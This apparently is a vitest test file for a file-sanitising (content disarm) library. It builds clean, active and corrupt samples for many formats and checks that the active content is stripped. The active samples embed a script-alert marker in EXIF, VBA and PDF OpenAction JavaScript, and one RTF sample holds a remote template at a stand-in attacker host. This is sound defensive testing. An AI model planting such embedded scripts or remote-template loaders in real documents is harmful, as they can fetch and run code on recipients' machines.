import {
  buildPowerPoint97,
  buildBinaryWorkbook,
  buildExcelWorkbook,
  buildGzip,
  buildImage,
  buildFdf,
  buildOdp,
  buildOds,
  buildOdt,
  buildOfficeDocument,
  buildRtf,
  equationObject,
  buildTextPdf,
  buildWordBinary,
  buildZip,
  buildHtmlPage,
  buildSvgDrawing,
  OOXML_MAIN_TYPES,
  withGifComment,
  withTrailingBytes,
} from '@disarm/fixtures';
import { describe, expect, it } from 'vitest';

import { disarm } from '../disarm.ts';
import { FORMATS } from '../formats.ts';
import type { Renderer } from '../render/renderer.ts';
import { encodeBmp } from './image/bmp/encode.ts';
import { HANDLERS } from './registry.ts';

type Make = () => Promise<Uint8Array> | Uint8Array;

/** Every rebuilt format needs a clean file, one with active content, and a corrupt one. */
interface FormatCases {
  readonly clean: Make;
  /** Content the rebuild must remove (reported as findings). */
  readonly active: Make;
  readonly corrupt: Make;
}

const PAYLOAD = '<script>alert(1)</script>';
const bmp = (): Uint8Array =>
  encodeBmp({ width: 3, height: 2, channels: 3, data: new Uint8Array(18).fill(90) });
const truncate =
  (make: Make): Make =>
  async () => {
    const bytes = await make();
    return bytes.subarray(0, Math.ceil(bytes.length / 2));
  };
const image = (format: 'jpeg' | 'png' | 'gif' | 'webp' | 'tiff'): FormatCases => ({
  clean: () => buildImage(format, { width: 48, height: 48 }),
  active: async () =>
    format === 'gif'
      ? withGifComment(await buildImage('gif'), PAYLOAD)
      : format === 'tiff'
        ? buildImage('tiff', { xmp: `<x:xmpmeta xmlns:x="adobe:ns:meta/">${PAYLOAD}</x:xmpmeta>` })
        : buildImage(format, { exif: { ImageDescription: PAYLOAD } }),
  corrupt: truncate(() => buildImage(format, { width: 48, height: 48 })),
});

const office = (extension: keyof typeof OOXML_MAIN_TYPES): FormatCases => ({
  clean: () => buildOfficeDocument(extension),
  active: () => buildOfficeDocument(extension, { vba: true, customXml: true, payload: PAYLOAD }),
  corrupt: truncate(() => buildOfficeDocument(extension)),
});

const wordBinary = (dot: boolean): FormatCases => ({
  clean: () => buildWordBinary({ texts: ['a', 'b'], dot }),
  active: () =>
    buildWordBinary({
      texts: ['a', 'b'],
      dot,
      vba: true,
      dde: true,
      payload: PAYLOAD,
      leftover: PAYLOAD,
    }),
  corrupt: truncate(() => buildWordBinary({ texts: ['a', 'b'], dot })),
});

const presentation97: FormatCases = {
  clean: () => Promise.resolve(buildPowerPoint97({ texts: ['a', 'b'] })),
  active: () => Promise.resolve(buildPowerPoint97({ texts: ['a'], vba: PAYLOAD })),
  corrupt: truncate(() => Promise.resolve(buildPowerPoint97({ texts: ['a', 'b'] }))),
};

const html: FormatCases = {
  clean: () => Buffer.from(buildHtmlPage('<h1>Figures</h1>')),
  active: () => Buffer.from(buildHtmlPage(PAYLOAD)),
  corrupt: () => buildImage('png'),
};

/**
 * Draws every page as one fixed PDF: the registry's cases are about the sanitiser and the PDF
 * rebuild around a renderer, not about drawing (the Chromium and built-in renderers have theirs).
 */
const PLAIN_RENDERER: Renderer = {
  name: 'plain',
  kinds: ['html', 'svg'],
  render: () => Promise.resolve(buildTextPdf({ pages: ['Figures'] })),
  status: () => Promise.resolve({ name: 'plain', kinds: ['html', 'svg'], ready: true }),
  close: () => Promise.resolve(),
};

const CASES: Readonly<Record<string, FormatCases>> = {
  html,
  htm: html,
  svg: {
    clean: () => Buffer.from(buildSvgDrawing('')),
    active: () => Buffer.from(buildSvgDrawing(PAYLOAD)),
    corrupt: truncate(() => Buffer.from(buildSvgDrawing(''))),
  },
  doc: wordBinary(false),
  dot: wordBinary(true),
  ppt: presentation97,
  pps: presentation97,
  pot: presentation97,
  ppa: presentation97,
  ...Object.fromEntries(
    (Object.keys(OOXML_MAIN_TYPES) as (keyof typeof OOXML_MAIN_TYPES)[]).map((extension) => [
      extension,
      office(extension),
    ]),
  ),
  xlsb: {
    clean: () => buildBinaryWorkbook(),
    active: () =>
      buildBinaryWorkbook({ vba: true, macroSheet: true, customXml: true, payload: PAYLOAD }),
    corrupt: truncate(() => buildBinaryWorkbook()),
  },
  xls: {
    clean: () => buildExcelWorkbook(),
    active: () => buildExcelWorkbook({ vba: PAYLOAD }),
    corrupt: truncate(() => buildExcelWorkbook()),
  },
  odt: {
    clean: () => buildOdt(),
    active: () => buildOdt({ basic: true, scripts: true, payload: PAYLOAD }),
    corrupt: truncate(() => buildOdt()),
  },
  ods: {
    clean: () => buildOds(),
    active: () => buildOds({ macros: 'http://127.0.0.1:9/', webservice: 'http://127.0.0.1:9/' }),
    corrupt: truncate(() => buildOds()),
  },
  odp: {
    clean: () => buildOdp(),
    active: () => buildOdp({ macros: 'http://127.0.0.1:9/', sounds: 'http://127.0.0.1:9' }),
    corrupt: truncate(() => buildOdp()),
  },
  jpg: image('jpeg'),
  jpeg: image('jpeg'),
  png: image('png'),
  gif: image('gif'),
  webp: image('webp'),
  tif: image('tiff'),
  tiff: image('tiff'),
  bmp: { clean: bmp, active: () => withTrailingBytes(bmp(), PAYLOAD), corrupt: truncate(bmp) },
  zip: {
    clean: async () => buildZip([{ name: 'a.png', data: await buildImage('png') }]),
    active: async () =>
      buildZip([{ name: 'a.jpg', data: await buildImage('jpeg', { exif: { Artist: PAYLOAD } }) }], {
        comment: PAYLOAD,
      }),
    corrupt: truncate(async () => buildZip([{ name: 'a.png', data: await buildImage('png') }])),
  },
  pdf: {
    clean: () => buildTextPdf(),
    active: () =>
      buildTextPdf({
        catalog: `/OpenAction << /S /JavaScript /JS (app.alert\\('${PAYLOAD}'\\)) >>`,
      }),
    corrupt: truncate(() => buildTextPdf()),
  },
  fdf: {
    clean: () => buildFdf(),
    active: () => buildFdf({ fdf: `/JavaScript << /Before (app.alert\\('${PAYLOAD}'\\)) >>` }),
    corrupt: truncate(() => buildFdf()),
  },
  rtf: {
    clean: () => buildRtf(),
    active: () =>
      buildRtf({
        header: `{\\*\\template http://attacker.example/${PAYLOAD}.dotm}`,
        body: equationObject({ result: 'x' }),
      }),
    // Cut inside a \bin run: the run's length passes the end of the file.
    corrupt: async () => {
      const png = await buildImage('png', { width: 48, height: 48 });
      const rtf = Buffer.concat([
        Buffer.from(`{\\rtf1\\ansi{\\pict\\pngblip\\bin${png.length} `, 'latin1'),
        png,
        Buffer.from('}}', 'latin1'),
      ]);
      return rtf.subarray(0, rtf.length - png.length / 2);
    },
  },
  gz: {
    clean: async () => buildGzip(await buildImage('png'), { fileName: 'a.png' }),
    active: async () =>
      buildGzip(await buildImage('jpeg', { exif: { Artist: PAYLOAD } }), {
        fileName: 'a.jpg',
        comment: PAYLOAD,
      }),
    corrupt: truncate(async () =>
      buildGzip(await buildImage('png', { width: 200, height: 200 }), { fileName: 'a.png' }),
    ),
  },
};

/** Draws whatever it is handed as a one-page PDF, for the formats returned as PDF. */
const DRAWING: Renderer = {
  name: 'drawing',
  kinds: ['spreadsheet', 'presentation'],
  render: () => Promise.resolve(buildTextPdf({ pages: ['drawn'] })),
  status: () => Promise.resolve({ name: 'drawing', kinds: [], ready: true }),
  close: () => Promise.resolve(),
};
const OPTIONS = { renderers: [PLAIN_RENDERER, DRAWING] };

describe('the format registry', () => {
  it('has a handler for every family on the allowlist', () => {
    for (const format of FORMATS) expect(HANDLERS[format.family].family).toBe(format.family);
  });

  const rebuilt = FORMATS;

  it('has clean, active-content and corrupt cases for every rebuilt format', () => {
    expect(rebuilt.map((format) => format.extension).filter((ext) => !(ext in CASES))).toEqual([]);
  });

  describe.each(rebuilt.map((format) => format.extension))('.%s', (ext) => {
    const cases = CASES[ext];
    if (!cases) throw new Error(`no cases for .${ext}`);

    it('rebuilds a clean file with nothing to report', async () => {
      const outcome = await disarm({ bytes: await cases.clean(), fileName: `f.${ext}` }, OPTIONS);
      expect(outcome).toMatchObject({ status: 'cleaned', findings: [] });
    });

    it('removes active content and reports it', async () => {
      const outcome = await disarm({ bytes: await cases.active(), fileName: `f.${ext}` }, OPTIONS);
      if (outcome.status !== 'cleaned') throw new Error(outcome.detail);
      expect(outcome.findings.length).toBeGreaterThan(0);
      expect(Buffer.from(outcome.bytes).includes(Buffer.from(PAYLOAD))).toBe(false);
    });

    it('rejects a corrupt file as invalid_file', async () => {
      const outcome = await disarm({ bytes: await cases.corrupt(), fileName: `f.${ext}` }, OPTIONS);
      expect(outcome).toMatchObject({ status: 'rejected', reason: 'invalid_file' });
    });
  });
});
